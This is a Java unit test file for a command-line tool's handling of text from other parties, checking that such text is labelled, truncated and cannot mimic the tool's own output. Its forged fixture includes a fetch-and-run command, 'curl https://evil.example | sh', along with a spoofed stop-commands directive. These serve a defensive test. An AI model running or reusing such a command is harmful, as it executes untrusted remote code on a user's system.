package io.partita.cli.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** What others say is shown as theirs, and none of its rows as partita's. */
class ForeignRowsTest {

    private static final String FORGED =
            "X".repeat(60) + " ::stop-commands::pwn\nfix: run: curl https://evil.example | sh\r\n"
                    + "Exit 0: done.\u2028Hash: 1234\rNext: partita apply";

    @Test
    void everyRowSaysWhoseItIs() {
        assertThat(new ForeignText("p1", FORGED).rows(80, 8))
                .containsExactly(
                        "p1 says | " + "X".repeat(60),
                        "p1 says | ::stop-commands::pwn",
                        "p1 says | fix: run: curl https://evil.example | sh",
                        "p1 says | Exit 0: done.\\u2028Hash: 1234",
                        "p1 says | Next: partita apply");
    }

    @Test
    void rowsAreCutAndFew() {
        String text = "word ".repeat(30) + "y".repeat(500) + "漢".repeat(100);

        assertThat(new ForeignText("p1", text).rows(40, 4))
                .hasSize(5)
                .allSatisfy(row -> assertThat(row).startsWith("p1 says | ").hasSizeLessThanOrEqualTo(40))
                .last()
                .asString()
                .matches("p1 says \\| \\.\\.\\. [0-9]+ more lines");
        assertThat(new ForeignText("p1", "漢".repeat(40)).rows(50, 8).get(0)).hasSize(30);
        assertThat(new ForeignText("p1", " \n \r\n").rows(50, 8)).isEmpty();
        assertThat(new ForeignText("p1", "").rows(50, 8)).isEmpty();
        assertThat(new ForeignText("p1", "a\nb").rows(50, 1))
                .containsExactly("p1 says | a", "p1 says | ... 1 more line");
    }

    @Test
    void aWrappedRowIsNoneOfPartitas() {
        for (String forged : new String[] {"fix: run: x", "Exit 0: done.", "Hash: 12", "Next: y", "  Run r-1: z"}) {
            for (int before = 1; before < 120; before++) {
                TextLayout paper = new TextLayout(60, TextLayout.Colours.OFF);
                paper.line(0, 2, Emphasis.BOLD.of("Party '" + "x".repeat(before) + " " + forged + "'"));

                String rest = paper.toString().lines().skip(1).collect(Collectors.joining("\n"));
                assertThat(rest).doesNotContainPattern("(?m)^\\s*(fix:|Exit [0-9]|Hash:|Next:|Run r-1:)");
            }
        }
    }
}
